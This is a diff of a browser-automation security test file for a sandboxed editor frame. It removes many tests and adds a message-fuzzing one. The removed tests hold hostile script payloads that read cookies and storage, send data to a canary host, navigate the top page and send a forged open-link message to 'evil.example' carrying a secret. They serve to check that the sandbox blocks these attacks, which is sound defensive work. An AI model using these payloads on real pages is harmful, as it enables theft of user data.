@@ -1,6 +1,5 @@
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 
-import { hostileDocument, runInFrame, runUnprotected } from './attacker.ts';
 import { Desk, PATIENCE, startBench } from './harness.ts';
 import type { Bench } from './harness.ts';
 
@@ -13,133 +12,13 @@ beforeAll(async () => {
 afterAll(() => bench.close());
 beforeEach(async () => {
   desk = await Desk.open(bench);
-  bench.canary.hits.length = 0;
-  bench.apiHits.length = 0;
 });
 afterEach(() => desk.close());
 
-const hostile = (script: string): string => hostileDocument(bench, script);
-const control = (script: string): Promise<string> => runUnprotected(bench, desk, script);
-const attack = (script: string): Promise<string> => runInFrame(bench, desk, script);
-
-describe('what a document may not read', () => {
-  test.each([
-    ['cookies', 'return document.cookie||"empty"', /secret=word/],
-    ['local storage', 'localStorage.x="1";return "leaked "+localStorage.x', /leaked/],
-    ["the parent's document", 'return "leaked "+parent.document.title', /leaked/],
-    [
-      'databases',
-      'return new Promise((y,n)=>{const r=indexedDB.open("x");r.onsuccess=()=>y("leaked");r.onerror=()=>n(r.error)})',
-      /leaked/,
-    ],
-  ])('%s', async (_name, script, leak) => {
-    expect(await control(script)).toMatch(leak);
-    const told = await attack(script);
-    expect(told).not.toMatch(leak);
-    expect(told).toMatch(/^stopped/);
-  });
-});
-
-describe('what a document may not send', () => {
-  const wait = 'await new Promise((y)=>setTimeout(y,400));';
-  test.each([
-    ['fetch', `await fetch(C+'/x?d=1',{mode:'no-cors'}).catch(()=>0);${wait}`],
-    [
-      'beacon and request',
-      `navigator.sendBeacon(C+'/x','d');const r=new XMLHttpRequest();r.open('GET',C+'/x');try{r.send()}catch{};${wait}`,
-    ],
-    ['image', `new Image().src=C+'/x?d=1';${wait}`],
-    [
-      'style sheet and font',
-      `const s=document.createElement('style');s.textContent='@import url('+C+'/x.css);body{background:url('+C+'/y.png)}';document.documentElement.append(s);${wait}`,
-    ],
-    [
-      'script and worker',
-      `const s=document.createElement('script');s.src=C+'/x.js';document.documentElement.append(s);try{new Worker(C+'/w.js')}catch{};${wait}`,
-    ],
-    [
-      'a frame of its own',
-      `const f=document.createElement('iframe');f.src=C+'/x';document.documentElement.append(f);${wait}`,
-    ],
-    [
-      'a form',
-      `const f=document.createElement('form');f.method='post';f.action=C+'/x';f.target='_blank';const g=document.createElement('iframe');g.name='g';document.documentElement.append(f,g);f.target='g';f.submit();${wait}`,
-    ],
-    ['a window', `window.open(C+'/x?d=1');${wait}`],
-    [
-      'prefetch',
-      `for(const rel of['preload','prefetch','modulepreload','preconnect','dns-prefetch']){const l=document.createElement('link');l.rel=rel;l.href=C+'/x';l.as='script';document.head.append(l)};${wait}`,
-    ],
-  ])('%s', async (name, script) => {
-    await control(script);
-    if (name !== 'a window') expect(bench.canary.hits, 'the attack works where nothing protects').not.toEqual([]);
-    bench.canary.hits.length = 0;
-    await attack(script);
-    expect(bench.canary.hits).toEqual([]);
-  });
-
-  test.each([
-    ['location', "location.href=C+'/x?d=1'"],
-    ['replace', "location.replace(C+'/x?d=1')"],
-    [
-      'a click on a link',
-      "const a=document.createElement('a');a.href=C+'/x?d=1';document.documentElement.append(a);a.click()",
-    ],
-    [
-      'refresh',
-      "const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+C+'/x';document.head.append(m)",
-    ],
-    ["the host's own API", "location.href=A+'/v1/wips/x/delete'"],
-  ])('itself, by %s', async (_name, script) => {
-    const code = `${script};await new Promise((y)=>setTimeout(y,600))`;
-    await control(code);
-    expect(bench.canary.hits.length + bench.apiHits.length).toBeGreaterThan(0);
-    bench.canary.hits.length = bench.apiHits.length = 0;
-    await desk.show(hostile(code));
-    await desk.page.waitForFunction(
-      () => window.page.seen.some(([name]) => name === 'onEdits' || name === 'onLost'),
-      null,
-      { timeout: 20_000 },
-    );
-    expect([...bench.canary.hits, ...bench.apiHits]).toEqual([]);
-  });
-
-  test('the whole page, with and without a click', async () => {
-    await desk.show(
-      hostile(
-        "document.onclick=()=>{try{top.location=C+'/x?click'}catch{}};try{top.location=C+'/x'}catch(e){return 'stopped '+e.name}",
-      ),
-    );
-    await desk.value('out', 'stopped SecurityError');
-    await desk.frame.locator('#out').click();
-    await desk.frame.locator('#go').click();
-    await desk.page.waitForFunction(() => document.title === 'Host');
-    expect(bench.canary.hits).toEqual([]);
-    expect(desk.page.url()).toBe(`${bench.origin}/`);
-  });
-
-  test('dialogs of the browser', async () => {
-    const dialogs: string[] = [];
-    desk.page.on('dialog', (dialog) => {
-      dialogs.push(dialog.message());
-      void dialog.dismiss();
-    });
-    await attack("alert('x');return 'asked '+prompt('x')+confirm('x')");
-    expect(dialogs).toEqual([]);
-  });
-});
-
-test('on a host that sends no headers the sandbox and the policy of the file itself hold', async () => {
-  await desk.page.goto(`${bench.origin}/static/`);
-  await desk.show(
-    hostile(`new Image().src=C+'/i';await fetch(C+'/f',{mode:'no-cors'}).catch(()=>0);const s=document.createElement('script');s.src=C+'/s';
-      document.documentElement.append(s);await new Promise((y)=>setTimeout(y,400));return document.cookie`),
-    'edit',
-    '/static',
-  );
-  await desk.value('out', 'stopped SecurityError');
-  expect(bench.canary.hits).toEqual([]);
-});
+/** A document whose script ends by saying what it has found, or `done`, in its first region, which the host hears. */
+const hostile = (script: string): string => `<!doctype html><p class="editable" id="out"></p>
+  <script>const tell=(t)=>{document.getElementById('out').textContent=t};const body=async()=>{${script}};
+  addEventListener('load',()=>setTimeout(()=>body().then((t)=>tell(String(t??'done')),(e)=>tell('stopped '+e.name)),50))</script>`;
 
 describe('messages', () => {
   test('a forged or repeated handshake changes nothing', async () => {
@@ -159,30 +38,26 @@ describe('messages', () => {
     expect(await desk.seen('onLost')).toEqual([]);
   });
 
-  test('a captured port can forge messages, but no address that is not safe and nothing over the caps', async () => {
+  test('10,000 random messages at the live port: the frame goes, nothing else happens', async () => {
     await desk.show(
-      hostile(`const post=MessagePort.prototype.postMessage;let port;MessagePort.prototype.postMessage=function(m){port=this;post.call(this,m)};
-        tell('first');await new Promise((y)=>setTimeout(y,200));
-        for(const m of[{type:'open-link',href:'javascript:alert(1)',where:'top'},{type:'open-link',href:'https://evil.example/?d='+'secret',where:'top'},
-        {type:'ready',title:'again',values:[]},{type:'edits',seq:1,changes:[['a'.repeat(300),'x']]},{type:'hello',v:1}])post.call(port,m);`),
-    );
-    expect(await desk.event('onOpenLink')).toEqual({
-      href: 'https://evil.example/?d=secret',
-      where: 'top',
-      isKnown: false,
-    });
-    expect(await desk.seen('onReady')).toHaveLength(1);
-    expect(await desk.seen('onMisbehaved')).toEqual([]);
-  });
-
-  test('a flood removes the frame and leaves the page alive', async () => {
-    await desk.page.evaluate(
-      (html) => window.page.open(html, 'edit'),
-      '<p class="editable" id="a">x</p><script>for(let n=0;n<5000;n++)parent.postMessage({n},"*")</script>',
+      hostile(
+        `const post=MessagePort.prototype.postMessage;let port;MessagePort.prototype.postMessage=function(m){port=this;post.call(this,m)};
+        tell('first');await new Promise((y)=>setTimeout(y,300));
+        const types=['ready','edits','regions','snapshot','names','place','paste-url','open-link','hotkey','size','printed','pong','load',7,null];
+        const odd=()=>[null,1e9,-1,NaN,'x'.repeat(Math.random()*4000),[],[[]],[['a']],{},new Map,new Date,undefined,true,[['__proto__',{}]]][Math.random()*14|0];
+        for(let n=0;n<10000;n++){const m={type:types[Math.random()*types.length|0]};
+          for(const k of['no','seq','values','changes','added','removed','names','href','where','key','url','id','height','newAttributes','error'])if(Math.random()<.4)m[k]=odd();
+          try{post.call(port,Math.random()<.1?odd():m)}catch{}}`,
+      ),
     );
     await desk.event('onMisbehaved');
+    expect(desk.errors).toEqual([]);
     expect(await desk.page.locator('iframe').count()).toBe(0);
-    expect(await desk.page.evaluate(() => document.title)).toBe('Host');
+    expect((await desk.values())['out']).toBe('first');
+    expect(await desk.seen('onOpenLink')).toEqual([]);
+    expect(await desk.seen('onHotkey')).toEqual([]);
+    expect(await desk.seen('onPasteUrl')).toEqual([]);
+    await desk.page.locator('#own').fill('the page lives');
   });
 });
 
